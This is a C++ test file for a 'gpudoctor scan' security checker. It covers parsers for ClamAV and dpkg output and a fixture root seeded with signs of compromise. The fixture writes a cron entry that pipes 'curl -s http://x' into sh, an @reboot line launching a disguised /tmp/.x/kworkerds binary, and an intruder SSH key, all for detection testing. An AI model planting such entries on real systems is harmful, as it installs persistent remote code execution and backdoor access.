// `gpudoctor scan` (issue 25 §1): the parsers of the tools' outputs, the whole command on a
// fixture root (--path.procfs tests/fixtures/suspicious/proc, a temporary --path.rootfs) with
// stand-in clamscan and dpkg scripts on PATH that print exactly what the real tools print, absent
// tools reported as not checked, and the real `dpkg --verify` on this machine.
//
// Output formats (sources):
//  - clamscan --no-summary: "PATH: OK", "PATH: SIGNATURE FOUND", "PATH: REASON ERROR"
//    (ClamAV clamscan/manager.c; docs.clamav.net "Scanning": "/home/user/eicar.com:
//    Win.Test.EICAR_HDB-1 FOUND"). Exit 0 clean, 1 found, 2 error (clamscan(1)).
//  - dpkg --verify: "??5??????   /usr/bin/x", "missing   c /etc/x" (dpkg src/main/verify.c
//    verify_output_rpm, dpkg(1) --verify-format rpm); the lines below marked "real" were copied
//    from `dpkg --verify` on this Debian 12 build machine.
//  - debsums -s: "debsums: changed file /usr/bin/x (from pkg package)" (debsums(1)).
#include <fcntl.h>
#include <gtest/gtest.h>
#include <sys/stat.h>

#include <nlohmann/json.hpp>

#include "cli/scan_checks.h"
#include "parsers/scan_outputs.h"
#include "test_util.h"

namespace gpudoctor {
namespace {

TEST(ScanParsersTest, ClamscanLines) {
  auto r = ParseClamOutput(
      "/home/user/eicar.com: Win.Test.EICAR_HDB-1 FOUND\n"
      "/usr/bin/ls: OK\n"
      "/srv/odd: name: OK\n"
      "/root/x: Access denied. ERROR\n"
      "LibClamAV Warning: something\n"
      "\n"
      "----------- SCAN SUMMARY -----------\n"
      "Infected files: 1\n");
  ASSERT_TRUE(r.ok()) << r.status().message();
  ASSERT_EQ(r->size(), 4u);
  EXPECT_EQ((*r)[0].path, "/home/user/eicar.com");
  EXPECT_EQ((*r)[0].signature, "Win.Test.EICAR_HDB-1");
  EXPECT_TRUE((*r)[1].signature.empty());
  EXPECT_EQ((*r)[2].path, "/srv/odd: name");
  EXPECT_TRUE((*r)[3].error);
  EXPECT_EQ((*r)[3].error_text, "Access denied.");
  EXPECT_FALSE(ParseClamOutput(": FOUND\n").ok());
}

TEST(ScanParsersTest, DpkgVerifyAndDebsumsLines) {
  // real: the first three lines.
  auto r = ParseDpkgVerify(
      "missing   c /etc/debuginfod/elfutils.urls\n"
      "missing     /usr/lib/node_modules/npm/.npmrc\n"
      "??5??????   /usr/lib/node_modules/npm/bin/npm.ps1\n"
      "??5?????? c /etc/ssh/sshd_config\n"
      "missing     /usr/sbin/gone (No such file or directory)\n");
  ASSERT_TRUE(r.ok()) << r.status().message();
  ASSERT_EQ(r->size(), 5u);
  EXPECT_TRUE((*r)[0].missing);
  EXPECT_TRUE((*r)[0].conffile);
  EXPECT_EQ((*r)[1].path, "/usr/lib/node_modules/npm/.npmrc");
  EXPECT_TRUE((*r)[2].content_changed);
  EXPECT_FALSE((*r)[2].conffile);
  EXPECT_TRUE((*r)[3].conffile);
  EXPECT_EQ((*r)[4].path, "/usr/sbin/gone");
  auto bad = ParseDpkgVerify("hello world\n");
  ASSERT_FALSE(bad.ok());
  EXPECT_NE(bad.status().message().find("line 1"), std::string::npos);
  EXPECT_FALSE(ParseDpkgVerify("??5??????   relative/path\n").ok());
  auto d = ParseDebsums(
      "debsums: changed file /usr/bin/ps (from procps package)\n"
      "debsums: missing file /usr/sbin/sshd (from openssh-server package)\n"
      "something else\n");
  ASSERT_EQ(d.size(), 2u);
  EXPECT_EQ(d[0].path, "/usr/bin/ps");
  EXPECT_TRUE(d[0].content_changed);
  EXPECT_TRUE(d[1].missing);
  EXPECT_TRUE(IsSystemBinaryPath("/usr/lib/x86_64-linux-gnu/libc.so.6"));
  EXPECT_FALSE(IsSystemBinaryPath("/usr/share/doc/x"));
  EXPECT_FALSE(IsSystemBinaryPath("/usr/binx/y"));
}

void SetMtime(const std::string& path, int64_t unix_s) {
  timespec t[2] = {{unix_s, 0}, {unix_s, 0}};
  ASSERT_EQ(utimensat(AT_FDCWD, path.c_str(), t, 0), 0) << path;
}

constexpr int64_t kOld = 1600000000;  // 2020-09-13
constexpr int64_t kNew = 1733000000;  // 2024-11-30
constexpr const char* kSince = "2024-01-01T00:00:00Z";

struct ScanRoot {
  testing::TempDir dir;
  ScanRoot() {
    dir.Write("root/.ssh/authorized_keys", "ssh-ed25519 AAAA intruder\n");
    SetMtime(dir.path() + "/root/.ssh/authorized_keys", kNew);
    dir.Write("home/alice/.ssh/authorized_keys", "ssh-ed25519 AAAA alice\n");
    SetMtime(dir.path() + "/home/alice/.ssh/authorized_keys", kOld);
    dir.Write("etc/crontab", "# m h dom mon dow user command\n");
    SetMtime(dir.path() + "/etc/crontab", kOld);
    dir.Write("etc/cron.d/sysupdate", "* * * * * root curl -s http://x | sh\n");
    SetMtime(dir.path() + "/etc/cron.d/sysupdate", kNew);
    dir.Write("var/spool/cron/crontabs/root", "@reboot /tmp/.x/kworkerds\n");
    SetMtime(dir.path() + "/var/spool/cron/crontabs/root", kNew);
  }
};

// Stand-ins that print the real tools' output formats (see the header for the sources).
void WriteStandIns(const testing::TempDir& bin) {
  bin.Write("clamscan",
            "#!/bin/sh\n"
            "# clamscan --no-summary: one 'PATH: OK' or 'PATH: SIGNATURE FOUND' line per file.\n"
            "found=0\n"
            "for a in \"$@\"; do\n"
            "  case \"$a\" in --*) continue;; esac\n"
            "  case \"$a\" in\n"
            "    *kworkerds*) echo \"$a: Unix.Trojan.Mirai-7100807-0 FOUND\"; found=1;;\n"
            "    *) echo \"$a: OK\";;\n"
            "  esac\n"
            "done\n"
            "exit $found\n");
  bin.Write("dpkg",
            "#!/bin/sh\n"
            "# dpkg --verify: verify_output_rpm lines (the first two copied from a real run).\n"
            "case \"$*\" in *--verify*) ;; *) exit 2;; esac\n"
            "echo 'missing   c /etc/debuginfod/elfutils.urls'\n"
            "echo '??5??????   /usr/lib/node_modules/npm/bin/npm.ps1'\n"
            "echo '??5??????   /usr/bin/ps'\n"
            "echo '??5?????? c /etc/ssh/sshd_config'\n"
            "echo 'missing     /usr/sbin/sshd'\n"
            "exit 0\n");
  for (const char* tool : {"clamscan", "dpkg"}) {
    ASSERT_EQ(chmod((bin.path() + "/" + tool).c_str(), 0755), 0);
  }
}

const nlohmann::json* FindingOf(const nlohmann::json& j, const std::string& id,
                                const std::string& subject = "") {
  for (const auto& f : j["findings"]) {
    if (f["id"] == id && (subject.empty() || f.value("subject", "") == subject)) return &f;
  }
  return nullptr;
}

// `gpudoctor scan` on the fixture /proc (tests/fixtures/suspicious) and `root`, with PATH = `path`
// (the stand-in tools, or none).
testing::RunResult Scan(const ScanRoot& root, const std::string& path, const char* since,
                        bool json = true) {
  std::vector<std::string> args = {"scan", "--path.procfs",
                                   testing::FixturePath("suspicious") + "/proc"};
  args.insert(args.end(), {"--path.rootfs", root.dir.path(), "--since", since});
  if (json) args.push_back("--json");
  return testing::RunGpudoctor(args, std::chrono::seconds(30), {{"PATH", path}});
}

TEST(ScanCommandTest, FixtureRootWithStandInTools) {
  ScanRoot root;
  testing::TempDir bin;
  WriteStandIns(bin);
  auto r = Scan(root, bin.path(), kSince);
  ASSERT_EQ(r.exit_code, 2) << r.out << r.err;  // malware found: crit
  auto j = nlohmann::json::parse(r.out);
  // Flagged and GPU processes: xmrig, kworkerds, sshd2 (deleted), p (/var/tmp), nginx (deleted),
  // trainer (GPU), and the nine under /tmp (110-118; ClamAV is cheap, so the build and runtime
  // paths proc.suspicious exempts are scanned too: a disguised binary is caught here). Not
  // bash, helper or proxy (no static sign in /proc alone).
  EXPECT_EQ(j["targets"].size(), 15u) << j["targets"].dump();
  const auto* malware = FindingOf(j, "scan.malware");
  ASSERT_NE(malware, nullptr) << r.out;
  EXPECT_EQ((*malware)["subject"], "/tmp/.x/kworkerds");
  std::string ev = (*malware).dump();
  EXPECT_NE(ev.find("Unix.Trojan.Mirai-7100807-0"), std::string::npos);
  EXPECT_NE(ev.find("kworkerds (pid 102)"), std::string::npos) << ev;
  const auto* clean = FindingOf(j, "scan.clean", "clamav");
  EXPECT_EQ(clean, nullptr);  // something was found: the step is not "clean"
  const auto* pkgs = FindingOf(j, "scan.packages.changed");
  ASSERT_NE(pkgs, nullptr) << r.out;
  std::string p = pkgs->dump();
  EXPECT_NE(p.find("/usr/bin/ps [??5??????]"), std::string::npos) << p;
  EXPECT_NE(p.find("/usr/sbin/sshd [missing]"), std::string::npos) << p;
  EXPECT_EQ(p.find("sshd_config"), std::string::npos) << "conffiles are not binaries";
  EXPECT_NE(p.find("--root=" + root.dir.path()), std::string::npos) << p;
  const auto* keys = FindingOf(j, "scan.ssh_keys.changed");
  ASSERT_NE(keys, nullptr) << r.out;
  std::string k = keys->dump();
  EXPECT_NE(k.find("/root/.ssh/authorized_keys (2024-11-30T"), std::string::npos) << k;
  EXPECT_EQ(k.find("alice"), std::string::npos) << k;
  const auto* cron = FindingOf(j, "scan.cron.changed");
  ASSERT_NE(cron, nullptr) << r.out;
  std::string c = cron->dump();
  EXPECT_NE(c.find("/etc/cron.d/sysupdate"), std::string::npos) << c;
  EXPECT_NE(c.find("/var/spool/cron/crontabs/root"), std::string::npos) << c;
  EXPECT_EQ(c.find("/etc/crontab "), std::string::npos) << c;
  EXPECT_EQ(FindingOf(j, "scan.not_checked"), nullptr) << r.out;

  // The text report names the same things.
  auto t = Scan(root, bin.path(), kSince, /*json=*/false);
  EXPECT_EQ(t.exit_code, 2);
  EXPECT_NE(t.out.find("scan.malware"), std::string::npos) << t.out;
  EXPECT_NE(t.out.find("reinstall"), std::string::npos) << t.out;
}

// Nothing changed since 2025 in ScanRoot: what decides the exit code is the absent tools alone.
constexpr const char* kAfterAllChanges = "2025-01-01T00:00:00Z";

// An absent tool is what a skipped probe is for check: a note (info, exit 0) that says the step
// was not checked and how to install the tool; never scan.clean.
TEST(ScanCommandTest, AbsentToolsAreNotCheckedNeverClean) {
  ScanRoot root;
  testing::TempDir empty_bin;
  empty_bin.MakeDir("x");
  auto r = Scan(root, empty_bin.path(), kAfterAllChanges);
  ASSERT_EQ(r.exit_code, 0) << r.out << r.err;
  auto j = nlohmann::json::parse(r.out);
  const auto* clam = FindingOf(j, "scan.not_checked", "clamav");
  ASSERT_NE(clam, nullptr) << r.out;
  EXPECT_EQ((*clam)["severity"], "info");
  EXPECT_EQ((*clam)["evidence"]["tool"], "absent");
  EXPECT_NE(clam->dump().find("ClamAV is not installed"), std::string::npos);
  EXPECT_NE(clam->dump().find("apt install clamav"), std::string::npos) << clam->dump();
  const auto* pk = FindingOf(j, "scan.not_checked", "packages");
  ASSERT_NE(pk, nullptr) << r.out;
  EXPECT_EQ((*pk)["severity"], "info");
  EXPECT_EQ(FindingOf(j, "scan.clean", "clamav"), nullptr);
  EXPECT_EQ(FindingOf(j, "scan.clean", "packages"), nullptr);
  // stdout is JSON: the step that did not run is also said on stderr.
  EXPECT_NE(r.err.find("clamav not checked: ClamAV is not installed"), std::string::npos) << r.err;
  EXPECT_NE(r.err.find("apt install clamav"), std::string::npos) << r.err;

  // The text report says the same, and so does a changed file still warn (exit 1).
  auto t = Scan(root, empty_bin.path(), kSince, /*json=*/false);
  EXPECT_EQ(t.exit_code, 1) << t.out << t.err;  // authorized_keys and crontabs changed
  EXPECT_NE(t.out.find("apt install clamav"), std::string::npos) << t.out;
}

// A tool that is there but cannot do its work (ClamAV without a signature database exits 2) is
// what a failed probe is for check: warn, exit 1, never clean.
TEST(ScanCommandTest, ClamavThatFailsIsAWarning) {
  ScanRoot root;
  testing::TempDir bin;
  WriteStandIns(bin);
  // clamscan(1): exit 2 on errors; the message is LibClamAV's when /var/lib/clamav is empty.
  bin.Write("clamscan",
            "#!/bin/sh\n"
            "echo 'LibClamAV Error: cli_loaddbdir(): No supported database files found in "
            "/var/lib/clamav' >&2\n"
            "echo 'ERROR: Can'\\''t open file or directory' >&2\n"
            "exit 2\n");
  ASSERT_EQ(chmod((bin.path() + "/clamscan").c_str(), 0755), 0);
  bin.Write("dpkg", "#!/bin/sh\nexit 0\n");  // --verify: nothing differs
  ASSERT_EQ(chmod((bin.path() + "/dpkg").c_str(), 0755), 0);
  auto r = Scan(root, bin.path(), kAfterAllChanges);
  ASSERT_EQ(r.exit_code, 1) << r.out << r.err;
  auto j = nlohmann::json::parse(r.out);
  const auto* clam = FindingOf(j, "scan.not_checked", "clamav");
  ASSERT_NE(clam, nullptr) << r.out;
  EXPECT_EQ((*clam)["severity"], "warn");
  EXPECT_EQ((*clam)["evidence"]["tool"], "failed");
  EXPECT_NE(clam->dump().find("No supported database files"), std::string::npos) << clam->dump();
  EXPECT_EQ(FindingOf(j, "scan.clean", "clamav"), nullptr);
  EXPECT_NE(FindingOf(j, "scan.clean", "packages"), nullptr) << r.out;
}

TEST(ScanCommandTest, NothingChangedSinceIsCleanWithWhatWasChecked) {
  ScanRoot root;
  SecurityScanOptions o;
  o.fs = RootFs(root.dir.path() + "/proc", root.dir.path() + "/sys", root.dir.path());
  o.since_unix_s = kNew + 1;
  o.files_deadline = SteadyClock::now() + std::chrono::seconds(10);
  std::vector<Finding> out;
  CheckChangedFiles(o, out);
  ASSERT_EQ(out.size(), 2u);
  for (const auto& f : out) {
    EXPECT_EQ(f.id, "scan.clean");
    EXPECT_NE(f.summary.find("none of"), std::string::npos) << f.summary;
  }
  EXPECT_NE(out[0].summary.find("none of 2 authorized_keys"), std::string::npos) << out[0].summary;
  EXPECT_NE(out[1].summary.find("none of 3 crontab"), std::string::npos) << out[1].summary;
}

// The real dpkg on this Debian machine (one package, so it runs in seconds): the step runs to
// the end and gives a result, never not_checked.
TEST(ScanCommandTest, RealDpkgVerifyOnThisMachine) {
  auto which = testing::RunProgram({"/bin/sh", "-c", "command -v dpkg"});
  ASSERT_EQ(which.exit_code, 0) << "dpkg is part of every Debian system this project builds on";
  SecurityScanOptions o;
  o.packages = {"dpkg"};
  o.tool_timeout_s = 50;
  std::vector<Finding> out;
  VerifyPackages(o, out);
  ASSERT_EQ(out.size(), 1u);
  EXPECT_TRUE(out[0].id == "scan.clean" || out[0].id == "scan.packages.changed") << out[0].summary;
  bool method = false;
  for (const auto& e : out[0].evidence) {
    if (e.name == "method") {
      const auto& m = std::get<std::string>(e.value);
      method = m.find("--verify dpkg") != std::string::npos || m.find("debsums") == 0;
    }
  }
  EXPECT_TRUE(method);
}

}  // namespace
}  // namespace gpudoctor
